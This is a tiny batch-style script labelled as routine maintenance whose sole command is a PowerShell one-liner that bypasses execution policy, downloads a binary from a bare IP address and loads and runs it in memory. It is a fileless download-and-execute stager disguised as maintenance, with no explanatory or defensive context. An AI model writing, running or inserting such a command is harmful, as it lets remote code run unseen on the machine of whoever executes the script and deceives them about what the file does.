REM maintenance 3309 v0
powershell -ep bypass -c "$d=(New-Object Net.WebClient).DownloadData('http://198.51.100.9/p.bin');[Reflection.Assembly]::Load($d).EntryPoint.Invoke($null,$null)"
